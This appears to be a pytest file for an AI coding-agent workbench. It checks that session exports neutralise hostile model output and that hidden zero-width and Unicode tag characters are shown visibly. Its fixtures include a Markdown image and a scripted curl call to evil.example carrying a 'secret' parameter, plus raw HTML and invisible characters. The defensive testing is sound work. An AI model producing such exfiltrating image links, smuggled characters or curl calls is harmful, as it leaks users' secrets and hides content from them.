"""Text that hides itself, from a real session: `sessions show` makes zero-width and tag characters visible, and the
Markdown export renders nothing the model or the repository wrote (no image fetched, no link, no HTML)."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from tests.core.agent.helpers import git_repo, run_cli
from workbench import headless
from workbench.headless import RunOptions
from workbench.testing import MessagesPeer, reply, text, tool_use

IMG = "![img](https://evil.example/p.png?k=secret)"
HIDDEN = "zero\u200bwidth and tag\U000e0041\U000e0042 chars"


async def _hostile_session(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    todos = [
        {"content": IMG, "status": "in_progress", "activeForm": IMG},
        {"content": "<img src=https://evil.example/q.png> and [link](https://evil.example)", "status": "pending"},
    ]
    script = [
        reply(tool_use("TodoWrite", {"todos": todos}), tool_use(IMG, {"x": 1})),
        reply(tool_use("Bash", {"command": f"curl '{IMG}'"})),
        reply(text(f"Done {IMG}. {HIDDEN}")),
    ]
    with MessagesPeer(script) as peer:
        monkeypatch.setenv("ANTHROPIC_BASE_URL", peer.url)
        code = await headless.run(RunOptions(prompt=f"plan {IMG}", cwd=repo), io.StringIO(), io.StringIO())
    assert code == 3  # the curl asked for approval, which nobody gives headless


async def test_the_export_renders_nothing_it_was_given(
    tmp_path: Path, isolated_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo = git_repo(tmp_path / "repo")
    await _hostile_session(repo, monkeypatch)
    exported = run_cli(
        ["sessions", "--cwd", str(repo), "export", "latest", "--format", "md"], base_url=None, home=isolated_env
    )
    assert exported.returncode == 0, exported.stderr
    html = MarkdownIt("commonmark").enable("table").render(exported.stdout)
    assert "<img" not in html and "<a " not in html and "evil.example" in html
    assert "&lt;img src=" in html  # the plan's raw HTML shows as text
    assert re.search(r"<code>[^<]*!\[img\]\(https://evil\.example/p\.png\?k=secret\)", html)  # as a code span


async def test_sessions_show_makes_hidden_characters_visible(
    tmp_path: Path, isolated_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo = git_repo(tmp_path / "repo")
    await _hostile_session(repo, monkeypatch)
    shown = run_cli(["sessions", "--cwd", str(repo), "show", "latest"], base_url=None, home=isolated_env)
    assert shown.returncode == 0, shown.stderr
    assert "\u200b" not in shown.stdout and "\U000e0041" not in shown.stdout
    assert "zero<U+200B>width and tag<U+E0041><U+E0042> chars" in shown.stdout
